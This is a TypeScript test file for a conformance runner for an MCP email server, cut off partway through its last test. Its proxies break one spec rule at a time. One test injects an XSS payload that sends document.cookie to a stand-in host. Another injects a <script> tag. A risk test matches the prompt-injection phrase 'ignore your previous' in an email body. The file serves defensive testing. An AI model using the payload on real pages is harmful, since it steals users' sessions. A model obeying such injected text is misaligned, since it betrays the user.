// The runner end to end: against the reference server it passes; against servers broken in one
// place (a proxy rewriting one kind of answer) it fails exactly the checks for the broken rule;
// bad configuration is exit 2; checks without their data are skipped, never passed.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { randomUUID } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { post, startTestServer, toolCall, type TestServer } from "@mcpemails/server/testing";
import {
  startManglingProxy,
  toolResultOf,
  type Mangle,
  type ProxiedExchange,
  type RewriteHeaders,
  type RewriteRequest,
} from "./test-support/mangling-proxy.js";
import { startRateLimitedProxy } from "./test-support/rate-limited-proxy.js";
import { TOOL_NAMES } from "@mcpemails/generated";
import { withoutMadeUpDraftSkips } from "./test-support/made-up-draft-skip.js";
import { runRunner, type RunnerOutcome } from "./test-support/run-runner.js";
import { createApprovalKey } from "./test-support/approval-key.js";
import { createUndoKey } from "./test-support/undo-key.js";
import { blockPolicyAddress, POLICY_BLOCKED_TO } from "./test-support/policy-blocked-address.js";
import { SHRINK_TRIES } from "./checks/property-checks.js";

// The runner would wait out 100 calls a minute; the tests have no minute to spare.
const UNLIMITED = [
  { name: "minute", seconds: 60, limit: 1_000_000 },
  { name: "hour", seconds: 3600, limit: 1_000_000 },
  { name: "day", seconds: 86400, limit: 1_000_000 },
] as const;

let server: TestServer;
/** The undo window of --undo-token's key: long enough to look inside it, short enough to wait out. */
const UNDO_SECONDS = 3;
let revokedKey: string;
let approvalKey: string;
let undoKey: string;

// A fresh server for every test: the runs change read state, and a broken server must meet the
// same inbox as the reference run did.
beforeEach(async () => {
  server = await startTestServer({ rateWindows: UNLIMITED as never });
  const { createApiKey } = await import("@mcpemails/server/testing");
  const { record, key } = await createApiKey(server.store, {
    workspaceId: server.workspaceId,
    scopes: ["read:email"],
    mode: "test",
  });
  await server.store.revokeApiKey(record.id);
  revokedKey = key;
  // The address --policy-blocked-to names: the reference server's send policy refuses it.
  await blockPolicyAddress(server);
  approvalKey = await createApprovalKey(server);
  undoKey = await createUndoKey(server, UNDO_SECONDS);
});
afterEach(async () => server.close());

const baseArgs = (url = server.url) => [
  "--url",
  url,
  "--token",
  server.keys.full,
  "--inbox",
  server.inbox.id,
  "--read-only-token",
  server.keys.readOnly,
  "--send-only-token",
  server.keys.sendOnly,
  "--revoked-token",
  revokedKey,
  "--foreign-inbox",
  server.otherWorkspaceInbox.id,
  "--seed",
  "42",
];
/** Sends only to the sibling inbox of the same workspace, which --token can read: the recipient's side is checked too. */
const sendArgs = () => [
  "--allow-send",
  "--send-to",
  server.siblingInbox.addresses[0] ?? "",
  "--send-to-inbox",
  server.siblingInbox.id,
  "--policy-blocked-to",
  POLICY_BLOCKED_TO,
  "--approval-token",
  approvalKey,
];

/** The key whose sends wait out an undo window: only where the undo-window check is meant to run, since it waits. */
const undoArgs = () => ["--undo-token", undoKey];

describe("against the reference server", () => {
  it("passes every check, sends included, and writes JSON and JUnit reports", async () => {
    const run = await runRunner([...baseArgs(), "--runs", "20", ...sendArgs(), ...undoArgs()]);
    expect(run.failedIds).toEqual([]);
    expect(run.exitCode).toBe(0);
    // Only the --slow check lacks what it needs: the default limit is judged on --send-to-inbox,
    // which the run's own sends have filled past it.
    expect(withoutMadeUpDraftSkips(run.json?.checks.filter((c) => c.status === "skipped") ?? [])).toEqual([
      "behaviour.rate-limit",
    ]);
    expect(run.check("behaviour.default-limit")?.details).toMatch(/^20 of \d+ in --send-to-inbox$/);
    for (const id of [
      "behaviour.send.appears-in-sent",
      "behaviour.send.recipient-reads",
      "behaviour.send.reply-threads",
      "behaviour.send.idempotent-replay",
      "behaviour.mark-as-read",
      "inputs.positive.send_email",
      "inputs.positive.reply_to_email",
      "protocol.batch.2025-03-26",
      "auth.foreign-inbox.list_inbox",
      "behaviour.search.body-word",
      "behaviour.search.negated-subject",
      "behaviour.send-approval",
      "behaviour.send-approval.reply",
      "behaviour.undo-window",
    ]) {
      expect(run.check(id)?.status, id).toBe("passed");
    }
    expect(run.json?.counts.passed).toBeGreaterThan(250);
    expect(run.json?.limits).toMatchObject({ seen: "none seen", propertyRunsCut: 0, checksCut: 0 });
    expect(run.stdout).toMatch(/^stage +passed +failed +skipped +seconds$/m);
    expect(run.stdout).toMatch(/^PASS: \d+ passed, 0 failed, \d+ skipped of \d+ checks/m);
    expect(run.junit).toContain('<testsuite name="protocol"');
    expect(run.junit).toMatch(/failures="0"/);
  });

  it("sees the default limit once it may send to the inbox itself: it sends the two messages the seeded 19 lack", async () => {
    const run = await runRunner([
      ...baseArgs(),
      ...["--allow-send", "--send-to", server.inbox.addresses[0] ?? "", "--send-to-inbox", server.inbox.id],
      ...["--only", "behaviour.default-limit"],
    ]);
    expect(run.check("behaviour.default-limit")).toMatchObject({ status: "passed", details: "20 of 21 in INBOX" });
  });

  it("reports checks that lack a key or permission to send as skipped, with the reason, and says most were skipped", async () => {
    const run = await runRunner([
      "--url",
      server.url,
      "--token",
      server.keys.full,
      "--inbox",
      server.inbox.id,
      "--runs",
      "5",
      // The checks that need keys or sends: the read tools' cases would pass without either.
      "--only",
      "auth,inputs.case.send_email,inputs.case.reply_to_email",
    ]);
    expect(run.exitCode).toBe(0);
    expect(run.check("auth.scope.send_email")).toMatchObject({
      status: "skipped",
      details: { reason: "needs --read-only-token" },
    });
    expect(run.check("auth.revoked-key")).toMatchObject({
      status: "skipped",
      details: { reason: "needs --revoked-token" },
    });
    expect(run.check("inputs.case.send_email.to.min_items.at")).toMatchObject({
      status: "skipped",
      details: { reason: expect.stringContaining("--allow-send") },
    });
    expect(run.json?.counts.skipped).toBeGreaterThan(run.json?.counts.passed ?? 0);
    expect(run.stdout).toContain("Most checks were skipped");
    expect(run.junit).toContain("<skipped message=");
  });

  it("prints only the verdict line when quiet, and runs only the checks asked for", async () => {
    const run = await runRunner([
      ...baseArgs(),
      "--only",
      "protocol,auth.no-key",
      "--skip",
      "protocol.ping",
      "--quiet",
    ]);
    expect(run.stdout).toMatch(/^PASS: 22 passed, 0 failed, 0 skipped of 22 checks/);
    expect(run.stdout.split("\n")).toHaveLength(1);
  });
});

describe("against a server that rate-limits the run as the spec does", () => {
  // The spec's 100 calls a minute on a clock ten times faster, for the server and the runner's plan alike.
  const SPEED = 10;
  it("checks every rule once, cuts the rest to what two minutes' windows hold, and says what it cut", async () => {
    const proxy = await startRateLimitedProxy(server.url, { name: "minute", limit: 100, windowMs: 60_000 / SPEED });
    const start = Date.now();
    let run: RunnerOutcome;
    try {
      run = await runRunner([...baseArgs(proxy.url), ...sendArgs()], () => start + (Date.now() - start) * SPEED);
    } finally {
      await proxy.close();
    }
    expect(run.failedIds).toEqual([]);
    expect(run.exitCode).toBe(0);
    expect(run.json?.limits).toMatchObject({ seen: "100/minute" });
    // What every run makes (every rule once, one run of each property, the fixed checks) took two
    // windows under protocol 1.0; the three read tools of 1.1 take it past 200, into a third window
    // (the 110 s time budget no longer holds it), get_send_status of 1.4 just past 300, and the
    // optional checks are all cut.
    expect(run.json?.limits.counted).toBeLessThanOrEqual(400);
    expect(proxy.counts.refused).toBeGreaterThan(0);

    const cases = run.json?.checks.filter((c) => c.id.startsWith("inputs.case.")) ?? [];
    const rules = new Map<string, string[]>();
    for (const c of cases) {
      const rule = c.specRef.slice(c.specRef.indexOf(": ") + 2);
      rules.set(rule, [...(rules.get(rule) ?? []), c.status]);
    }
    expect(rules.size).toBeGreaterThan(50);
    for (const [rule, statuses] of rules) expect(statuses, rule).toContain("passed");
    const cut = cases.filter((c) => c.status === "skipped");
    const readListedCut = run.check("behaviour.read-listed")?.status === "skipped" ? 1 : 0;
    expect(cut.length + readListedCut).toBe(run.json?.limits.checksCut);
    expect(cut[0]?.details?.reason).toContain("rate limit (100/minute) leaves no room");

    for (const tool of ["list_inbox", "read_email", "search_emails", "send_email", "reply_to_email"])
      for (const kind of ["positive", "negative"])
        expect(run.check(`inputs.${kind}.${tool}`)).toMatchObject({
          status: "passed",
          details: expect.stringMatching(/^[1-9]\d* of 100 runs: the rest cut, as the server's rate limit/),
        });
    expect(run.stdout).toMatch(
      /To fit the rate limit the server showed \(100\/minute\) into 110 s, the run left out \d+ property runs and \d+ optional checks/,
    );
    expect(run.stdout).not.toContain("Most checks were skipped");
  });
});

/** A full run (5 property runs; sends only when asked) against the reference server behind a rewriting proxy. */
async function runBroken(
  mangle: Mangle,
  rewriteRequest?: RewriteRequest,
  options: { extraArgs?: string[]; rewriteHeaders?: RewriteHeaders } = {},
): Promise<RunnerOutcome> {
  const proxy = await startManglingProxy(server.url, mangle, rewriteRequest, options.rewriteHeaders);
  try {
    return await runRunner([...baseArgs(proxy.url), "--runs", "5", ...(options.extraArgs ?? [])]);
  } finally {
    await proxy.close();
  }
}

const isToolCall = (exchange: ProxiedExchange, tool: string) =>
  exchange.request?.method === "tools/call" && exchange.request.params?.name === tool;
const argumentsOf = (request: ProxiedExchange["request"]) =>
  request?.method === "tools/call" ? request.params?.arguments : undefined;

describe("against a server broken in one place, it fails the checks for that rule and exits 1", () => {
  it("tools/list without one of the tools", async () => {
    const run = await runBroken((exchange) => {
      const result = toolResultOf(exchange) as { tools?: unknown[] } | undefined;
      if (exchange.request?.method !== "tools/list" || result?.tools === undefined) return undefined;
      result.tools.pop();
      return exchange;
    });
    expect(run.exitCode).toBe(1);
    expect(run.failedIds).toEqual([
      "protocol.tools-list.2025-11-25",
      "protocol.tools-list.2025-06-18",
      "protocol.tools-list.2025-03-26",
      "protocol.tools-list.2024-11-05",
    ]);
    expect(run.check("protocol.tools-list.2025-11-25")?.details?.message).toContain(
      `$.tools.${TOOL_NAMES.length - 1} is missing`,
    );
  });

  it("unread_only ignored", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (args?.unread_only !== true) return undefined;
        delete args.unread_only;
        return request;
      },
    );
    // mark-as-read finds the message it marked read still listed by unread_only.
    expect(run.failedIds).toEqual(["behaviour.unread-only", "behaviour.mark-as-read"]);
    expect(run.check("behaviour.unread-only")?.details?.message).toMatch(/returned read messages/);
  });

  it("limit off by one", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (
          request?.params?.name !== "list_inbox" ||
          typeof args?.limit !== "number" ||
          args.limit < 1 ||
          args.limit >= 100
        )
          return undefined;
        args.limit += 1;
        return request;
      },
    );
    expect(run.failedIds).toContain("behaviour.limit-respected");
    expect(run.failedIds).toContain("behaviour.pages-concatenate");
    expect(run.failedIds.filter((id) => !id.startsWith("behaviour."))).toEqual([]);
  });

  it("offset off by one", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "list_inbox" || typeof args?.offset !== "number" || args.offset === 0)
          return undefined;
        args.offset += 1;
        return request;
      },
    );
    expect(run.failedIds).toContain("behaviour.pages-concatenate");
  });

  it("a total that counts only the page: paging arithmetic judged on every page the run saw", async () => {
    const run = await runBroken((exchange) => {
      const content = toolResultOf(exchange)?.structuredContent as
        { messages?: unknown[]; total?: unknown } | undefined;
      if (!isToolCall(exchange, "list_inbox") || content?.messages === undefined) return undefined;
      content.total = content.messages.length;
      return exchange;
    });
    // list_folders still counts INBOX whole, which the exact total of a page now contradicts.
    expect(run.failedIds).toEqual(["behaviour.list-folders.ids-list", "behaviour.page-arithmetic"]);
    expect(run.check("behaviour.page-arithmetic")?.details?.message).toMatch(/total is \d+, but|points past the last/);
  });

  it("a limit echoed wrong", async () => {
    const run = await runBroken((exchange) => {
      const content = toolResultOf(exchange)?.structuredContent as { limit?: number } | undefined;
      if (!isToolCall(exchange, "search_emails") || content?.limit === undefined) return undefined;
      content.limit = Math.min(100, content.limit + 1);
      return exchange;
    });
    expect(run.failedIds).toContain("behaviour.page-arithmetic");
    expect(run.check("behaviour.page-arithmetic")?.details?.message).toMatch(
      /^search_emails .*: limit is \d+, not the \d+ asked for$/,
    );
  });

  it("the wrong error code for an unknown message", async () => {
    const run = await runBroken((exchange) => {
      const result = toolResultOf(exchange);
      if (result?.errorCode !== "message_not_found") return undefined;
      result.errorCode = "inbox_not_found";
      return exchange;
    });
    expect(run.failedIds).toContain("behaviour.bogus-message-id");
    expect(
      run.failedIds.every(
        (id) =>
          id === "behaviour.bogus-message-id" || /^inputs\.case\.(read_email|get_attachment)\.message_id\./.test(id),
      ),
    ).toBe(true);
    expect(run.check("behaviour.bogus-message-id")?.details?.message).toBe(
      "expected message_not_found, got error result inbox_not_found",
    );
  });

  it("-32602 naming the wrong parameter", async () => {
    const run = await runBroken((exchange) => {
      const data = (exchange.body as { error?: { data?: { parameter?: string } } } | undefined)?.error?.data;
      if (!isToolCall(exchange, "search_emails") || data?.parameter === undefined) return undefined;
      data.parameter = "query";
      return exchange;
    });
    const negative = run.check("inputs.negative.search_emails");
    expect(negative?.status).toBe("failed");
    expect(negative?.details).toMatchObject({
      seed: 42,
      counterexample: expect.objectContaining({ path: expect.any(String) }),
      reproduce: expect.stringMatching(/^curl /),
    });
    expect(run.failedIds.every((id) => id.startsWith("inputs.") && id.includes("search_emails"))).toBe(true);
    // The text groups them by rule: each rule once, with its section and one reproducer.
    const rules = run.stdout.match(/^FAILED rule .+$/gm) ?? [];
    expect(rules.length).toBeGreaterThan(1);
    expect(rules.length).toBeLessThan(run.failedIds.length);
    for (const line of rules)
      expect(line).toMatch(
        /\(\d+ checks?; see generated\/docs\/REFERENCE\.md#(tool-search_emails-parameters|protocol-error-invalid_params)\)$/,
      );
    expect(run.stdout.match(/^ {2}reproducer \(/gm)).toHaveLength(rules.length);
  });

  it("output missing a required field", async () => {
    const run = await runBroken((exchange) => {
      const content = toolResultOf(exchange)?.structuredContent as Record<string, unknown> | undefined;
      if (!isToolCall(exchange, "list_inbox") || content === undefined) return undefined;
      delete content.total;
      return exchange;
    });
    const positive = run.check("inputs.positive.list_inbox");
    expect(positive).toMatchObject({
      status: "failed",
      details: {
        message: expect.stringContaining("structuredContent breaks the output schema"),
        counterexample: expect.objectContaining({ inbox_id: server.inbox.id }),
      },
    });
    expect(run.failedIds).toContain("behaviour.outputs-valid");
    // Every check that lists the inbox fails on the page itself, naming the field, not on what follows from it.
    for (const id of run.failedIds) expect(run.check(id)?.details?.message, id).toMatch(/total/);
  });

  it("an error result without its catalogued field", async () => {
    const run = await runBroken((exchange) => {
      const result = toolResultOf(exchange);
      if (result?.errorCode !== "scope_denied") return undefined;
      delete result.requiredScope;
      return exchange;
    });
    expect(run.failedIds).toEqual([
      "auth.scope.send_email",
      "auth.scope.reply_to_email",
      "auth.scope.create_draft",
      "auth.scope.update_draft",
      "auth.scope.delete_draft",
      "auth.scope.send_draft",
      "auth.scope.get_send_status",
      "auth.send-only-scope.list_inbox",
      "auth.send-only-scope.read_email",
      "auth.send-only-scope.search_emails",
      "auth.send-only-scope.list_folders",
      "auth.send-only-scope.get_thread",
      "auth.send-only-scope.get_attachment",
      "errors.catalogue",
    ]);
    expect(run.check("errors.catalogue")?.details?.message).toContain("scope_denied lacks its field requiredScope");
  });

  it("401 without WWW-Authenticate", async () => {
    const run = await runBroken((exchange) => {
      if (exchange.status !== 401) return undefined;
      delete exchange.headers["www-authenticate"];
      return exchange;
    });
    expect(run.failedIds).toEqual(["auth.no-key", "auth.malformed-key", "auth.revoked-key"]);
  });

  it("search results that do not satisfy the query", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "search_emails" || args?.query !== "is:unread") return undefined;
        args.query = "-is:unread";
        return request;
      },
    );
    expect(run.failedIds).toEqual(["behaviour.search.is-unread"]);
    expect(run.check("behaviour.search.is-unread")?.details?.message).toMatch(
      /^"is:unread" returned messages that do not satisfy it/,
    );
  });

  it("every portable search refused as a term the provider cannot honour", async () => {
    const run = await runBroken((exchange) => {
      if (
        !isToolCall(exchange, "search_emails") ||
        (exchange.body as { result?: unknown } | undefined)?.result === undefined
      )
        return undefined;
      const id = (exchange.body as { id: unknown }).id;
      exchange.body = {
        jsonrpc: "2.0",
        id,
        error: {
          code: -32602,
          message: "query: not supported here",
          data: { parameter: "query", rule: "query_term", message: "query: not supported here" },
        },
      };
      return exchange;
    });
    expect(run.check("inputs.positive.search_emails")).toMatchObject({
      status: "failed",
      details: {
        message: expect.stringMatching(/^every one of the \d+ portable queries was refused with -32602 query_term/u),
      },
    });
    expect(run.failedIds.every((id) => id.includes("search"))).toBe(true);
  });

  it("an inbox leaked: an unknown inbox id lists messages", async () => {
    const run = await runBroken((exchange) => {
      const result = toolResultOf(exchange);
      if (!isToolCall(exchange, "list_inbox") || result?.errorCode !== "inbox_not_found") return undefined;
      const page = { messages: [], offset: 0, limit: 20, next_offset: null, total: 0, total_is_estimate: false };
      (exchange.body as { result: unknown }).result = {
        content: [{ type: "text", text: JSON.stringify(page) }],
        structuredContent: page,
      };
      return exchange;
    });
    expect(run.failedIds).toContain("auth.unknown-inbox");
    expect(run.failedIds).toContain("auth.foreign-inbox.list_inbox");
    expect(
      run.failedIds.every(
        (id) =>
          id === "auth.unknown-inbox" ||
          id === "auth.foreign-inbox.list_inbox" ||
          // The page it serves does not echo the limit asked for.
          id === "behaviour.page-arithmetic" ||
          id.startsWith("inputs.case.list_inbox.inbox_id."),
      ),
    ).toBe(true);
  });

  it("another workspace's inbox leaked: its id is served from the caller's own inbox", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (args?.inbox_id !== server.otherWorkspaceInbox.id) return undefined;
        args.inbox_id = server.inbox.id;
        return request;
      },
    );
    expect(run.failedIds).toEqual([
      "auth.foreign-inbox.list_inbox",
      "auth.foreign-inbox.read_email",
      "auth.foreign-inbox.search_emails",
      "auth.foreign-inbox.list_folders",
      "auth.foreign-inbox.get_thread",
      "auth.foreign-inbox.get_attachment",
    ]);
  });

  it("a double send on a repeated idempotency key", async () => {
    let sends = 0;
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        // Keys the spec refuses stay as they are: this server breaks only the replay.
        if (
          request?.params?.name !== "send_email" ||
          typeof args?.idempotency_key !== "string" ||
          args.idempotency_key.length > 255
        )
          return undefined;
        args.idempotency_key = `${args.idempotency_key}-${++sends}`.slice(-255);
        return request;
      },
      { extraArgs: sendArgs() },
    );
    // The held send's retry is not replayed either (a second hold).
    expect(run.failedIds).toEqual([
      "behaviour.send.idempotent-replay",
      "behaviour.send.idempotency-key-reused",
      "behaviour.send-approval",
    ]);
    expect(run.check("behaviour.send.idempotent-replay")?.details?.message).toBe(
      "the repeated call has idempotent_replay false: it was sent again",
    );
    expect(run.check("behaviour.send-approval")?.details?.message).toContain("not the same hold");
  });

  it("an execution error result without isError: true", async () => {
    const run = await runBroken((exchange) => {
      const result = toolResultOf(exchange);
      if (typeof result?.errorCode !== "string") return undefined;
      delete result.isError;
      return exchange;
    });
    expect(run.exitCode).toBe(1);
    expect(run.failedIds).toContain("errors.catalogue");
    expect(run.check("errors.catalogue")?.details?.message).toContain("isError is not true");
  });

  it("body_html that keeps an event handler", async () => {
    const run = await runBroken(
      (exchange) => {
        const content = toolResultOf(exchange)?.structuredContent as Record<string, unknown> | undefined;
        if (!isToolCall(exchange, "read_email") || typeof content?.body_html !== "string") return undefined;
        content.body_html = `${content.body_html}<img src="cid:logo" onerror="fetch('https://x.example/'+document.cookie)">`;
        return exchange;
      },
      undefined,
      { extraArgs: [...sendArgs(), "--only", "behaviour.html-sanitized"] },
    );
    expect(run.failedIds).toEqual(["behaviour.html-sanitized"]);
    expect(run.check("behaviour.html-sanitized")?.details?.message).toContain("an event handler onerror on <img>");
  });

  it("read_email that ignores body_format and strip_quoted (a 1.0 server)", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "read_email" || args === undefined) return undefined;
        delete args.body_format;
        delete args.strip_quoted;
        return request;
      },
      { extraArgs: [...sendArgs(), "--only", "behaviour.body-format"] },
    );
    expect(run.failedIds).toEqual(["behaviour.body-format"]);
    expect(run.check("behaviour.body-format")?.details?.message).toContain("body_format markdown: body_text lacks");
  });

  it("Markdown that carries the sender's script", async () => {
    const run = await runBroken(
      (exchange) => {
        const content = toolResultOf(exchange)?.structuredContent as Record<string, unknown> | undefined;
        const markdown = argumentsOf(exchange.request)?.body_format === "markdown";
        if (!isToolCall(exchange, "read_email") || !markdown || typeof content?.body_text !== "string")
          return undefined;
        content.body_text = `${content.body_text}\n<script>alert(1)</script>`;
        return exchange;
      },
      undefined,
      { extraArgs: [...sendArgs(), "--only", "behaviour.body-format"] },
    );
    expect(run.failedIds).toEqual(["behaviour.body-format"]);
    expect(run.check("behaviour.body-format")?.details?.message).toContain("a <script> element");
  });

  /** The read tools of 1.1, judged by their own behaviour checks and nothing else. */
  const READ_TOOLS_11 = ["--only", "behaviour.list-folders,behaviour.get-thread,behaviour.get-attachment"];
  /** Changes a tool's structuredContent in place, its text content following. */
  const rewriteContent =
    (tool: string, change: (content: Record<string, unknown>) => boolean): Mangle =>
    (exchange) => {
      const result = toolResultOf(exchange);
      const content = result?.structuredContent as Record<string, unknown> | undefined;
      if (!isToolCall(exchange, tool) || result === undefined || result.isError === true || content === undefined)
        return undefined;
      if (!change(content)) return undefined;
      result.content = [{ type: "text", text: JSON.stringify(content) }];
      return exchange;
    };

  /** The risk check alone, with the runner's own message to judge. */
  const RISK_ONLY = () => [...sendArgs(), "--only", "behaviour.risk"];

  it("risk objects that never flag anything", async () => {
    const calm = (content: Record<string, unknown>) => {
      const messages = (content.messages as Record<string, unknown>[] | undefined) ?? [content];
      for (const message of messages) message.risk = { level: "none", signals: [] };
      return true;
    };
    const listing = rewriteContent("list_inbox", calm);
    const reading = rewriteContent("read_email", calm);
    const run = await runBroken((exchange) => listing(exchange) ?? reading(exchange), undefined, {
      extraArgs: RISK_ONLY(),
    });
    expect(run.failedIds).toEqual(["behaviour.risk"]);
    expect(run.check("behaviour.risk")?.details?.message).toContain("is not flagged high with assistant_instructions");
  });

  it("risk given on some listed messages only", async () => {
    const run = await runBroken(
      rewriteContent("list_inbox", (content) => {
        const [first] = content.messages as Record<string, unknown>[];
        if (first === undefined) return false;
        delete first.risk;
        return true;
      }),
      undefined,
      { extraArgs: RISK_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.risk"]);
    expect(run.check("behaviour.risk")?.details?.message).toMatch(/^1 of \d+ listed messages have no risk object/);
  });

  it("a flagged message whose text is taken out", async () => {
    const run = await runBroken(
      rewriteContent("read_email", (content) => {
        if (typeof content.body_text !== "string" || !content.body_text.includes("ignore your previous")) return false;
        content.body_text = "[removed: suspected prompt injection]";
        return true;
      }),
      undefined,
      { extraArgs: RISK_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.risk"]);
    expect(run.check("behaviour.risk")?.details?.message).toContain("removed the flagged text");
  });

  /** The send-policy check alone. */
  const POLICY_ONLY = () => [...sendArgs(), "--only", "behaviour.send-policy"];
  const toBlocked = (exchange: ProxiedExchange) =>
    isToolCall(exchange, "send_email") &&
    (argumentsOf(exchange.request)?.to as string[] | undefined)?.includes(POLICY_BLOCKED_TO) === true;

  it("a send the policy refuses answered as sent", async () => {
    const run = await runBroken(
      (exchange) => {
        if (!toBlocked(exchange) || exchange.body === undefined) return undefined;
        const result = {
          message_id: "m1",
          thread_id: "t1",
          rfc822_message_id: "<m1@broken.example>",
          delivery_status: "accepted",
          idempotent_replay: false,
        };
        (exchange.body as { result?: unknown }).result = {
          content: [{ type: "text", text: JSON.stringify(result) }],
          structuredContent: result,
        };
        return exchange;
      },
      undefined,
      { extraArgs: POLICY_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.send-policy"]);
    expect(run.check("behaviour.send-policy")?.details?.message).toContain("instead of send_policy_refused");
  });

  it("a policy refusal that does not name its rule", async () => {
    const run = await runBroken(
      (exchange) => {
        const result = toolResultOf(exchange) as Record<string, unknown> | undefined;
        if (!toBlocked(exchange) || result?.errorCode !== "send_policy_refused") return undefined;
        delete result.rule;
        return exchange;
      },
      undefined,
      { extraArgs: POLICY_ONLY() },
    );
    expect(run.failedIds).toContain("behaviour.send-policy");
    expect(run.check("behaviour.send-policy")?.details?.message).toContain("send_policy_refused lacks its field rule");
  });

  it("a policy refusal that keeps the idempotency_key", async () => {
    const run = await runBroken(
      (exchange) => {
        const subject = argumentsOf(exchange.request)?.subject;
        if (!isToolCall(exchange, "send_email") || typeof subject !== "string" || !subject.includes("policy retry"))
          return undefined;
        (exchange.body as { result?: unknown }).result = {
          content: [
            { type: "text", text: "idempotency_key was already used for a different message; nothing was sent." },
          ],
          isError: true,
          errorCode: "idempotency_key_reused",
        };
        return exchange;
      },
      undefined,
      { extraArgs: POLICY_ONLY() },
    );
    expect(run.failedIds).toContain("behaviour.send-policy");
    expect(run.check("behaviour.send-policy")?.details?.message).toContain("the refusal kept the key");
  });

  /** The key's send_email calls that match go to the server with the full key: its send policy never sees them. */
  const sentWithFullKey =
    (matches: (request: ProxiedExchange["request"]) => boolean): RewriteHeaders =>
    (headers, body) => {
      const request = body as ProxiedExchange["request"];
      if (request?.params?.name === "send_email" && matches(request))
        headers.authorization = `Bearer ${server.keys.full}`;
    };

  /** The send-approval checks alone. */
  const APPROVAL_ONLY = () => [...sendArgs(), "--only", "behaviour.send-approval,behaviour.send-approval.reply"];
  const heldAnswer = (holdId: string) => ({
    message_id: null,
    thread_id: null,
    rfc822_message_id: null,
    delivery_status: "pending_approval",
    hold_id: holdId,
    idempotent_replay: false,
  });
  const withResult = (exchange: ProxiedExchange, structured: Record<string, unknown>) => {
    (exchange.body as { result?: unknown }).result = {
      content: [{ type: "text", text: JSON.stringify(structured) }],
      structuredContent: structured,
    };
    return exchange;
  };
  const heldSubject = (request: ProxiedExchange["request"]) =>
    String(argumentsOf(request)?.subject ?? "").includes("held send");

  it("a held send that is sent anyway, answered as if held", async () => {
    const run = await runBroken(
      (exchange) =>
        isToolCall(exchange, "send_email") && heldSubject(exchange.request)
          ? withResult(exchange, heldAnswer("h-madeup000000000000000000"))
          : undefined,
      undefined,
      {
        extraArgs: APPROVAL_ONLY(),
        rewriteHeaders: sentWithFullKey(heldSubject),
      },
    );
    expect(run.failedIds).toEqual(["behaviour.send-approval"]);
    expect(run.check("behaviour.send-approval")?.details?.message).toContain(
      "get_send_status on hold h-madeup000000000000000000 answered",
    );
  });

  it("get_send_status saying sent of a hold nobody approved", async () => {
    const run = await runBroken(
      rewriteContent("get_send_status", (content) => {
        content.status = "sent";
        return true;
      }),
      undefined,
      { extraArgs: APPROVAL_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.send-approval"]);
    expect(run.check("behaviour.send-approval")?.details?.message).toContain(
      'get_send_status says "sent" for a hold nobody approved',
    );
  });

  it("a retry of a held send that holds it a second time", async () => {
    let heldCalls = 0;
    const run = await runBroken(
      (exchange) => {
        const result = toolResultOf(exchange) as { structuredContent?: Record<string, unknown> } | undefined;
        if (!isToolCall(exchange, "send_email") || !heldSubject(exchange.request) || !result?.structuredContent)
          return undefined;
        heldCalls += 1;
        if (heldCalls < 2) return undefined;
        return withResult(exchange, heldAnswer("h-second0000000000000000000"));
      },
      undefined,
      { extraArgs: APPROVAL_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.send-approval"]);
    expect(run.check("behaviour.send-approval")?.details?.message).toContain("not the same hold");
  });

  it("a reply with the approval key that is sent at once", async () => {
    const run = await runBroken(() => undefined, undefined, {
      extraArgs: APPROVAL_ONLY(),
      rewriteHeaders: (headers, body) => {
        if ((body as ProxiedExchange["request"])?.params?.name === "reply_to_email")
          headers.authorization = `Bearer ${server.keys.full}`;
      },
    });
    expect(run.failedIds).toEqual(["behaviour.send-approval.reply"]);
    expect(run.check("behaviour.send-approval.reply")?.details?.message).toContain(
      'answered delivery_status "accepted", not pending_approval',
    );
  });

  /** The undo-window check alone. */
  const UNDO_ONLY = () => [...sendArgs(), ...undoArgs(), "--only", "behaviour.undo-window"];
  const undoSubject = (request: ProxiedExchange["request"]) =>
    String(argumentsOf(request)?.subject ?? "").includes("undo-window send");

  it("a send under an undo window that is sent at once, answered as if scheduled", async () => {
    const run = await runBroken(
      (exchange) =>
        isToolCall(exchange, "send_email") && undoSubject(exchange.request)
          ? withResult(exchange, {
              ...heldAnswer("h-madeup000000000000000000"),
              delivery_status: "scheduled",
              send_at: new Date(Date.now() + UNDO_SECONDS * 1000).toISOString(),
            })
          : undefined,
      undefined,
      {
        extraArgs: UNDO_ONLY(),
        rewriteHeaders: sentWithFullKey(undoSubject),
      },
    );
    expect(run.failedIds).toEqual(["behaviour.undo-window"]);
    expect(run.check("behaviour.undo-window")?.details?.message).toContain(
      "get_send_status on hold h-madeup000000000000000000 answered",
    );
  });

  it("get_send_status saying sent inside the undo window", async () => {
    const run = await runBroken(
      rewriteContent("get_send_status", (content) => {
        content.status = "sent";
        content.decided_at ??= new Date().toISOString();
        return true;
      }),
      undefined,
      { extraArgs: UNDO_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.undo-window"]);
    // Read inside the window it says sent; read later (a loaded machine), it says when, and that is too early.
    expect(run.check("behaviour.undo-window")?.details?.message).toMatch(
      /^(get_send_status says "sent" before send_at, not scheduled|the hold was sent at \S+, before its send_at)/,
    );
  });

  it("a scheduled send whose retry schedules it a second time", async () => {
    const run = await runBroken(
      () => undefined,
      (request) => {
        const args = argumentsOf(request);
        if (request?.params?.name !== "send_email" || !undoSubject(request) || args === undefined) return undefined;
        args.idempotency_key = `conformance-undo-${randomUUID()}`;
        return request;
      },
      { extraArgs: UNDO_ONLY() },
    );
    expect(run.failedIds).toEqual(["behaviour.undo-window"]);
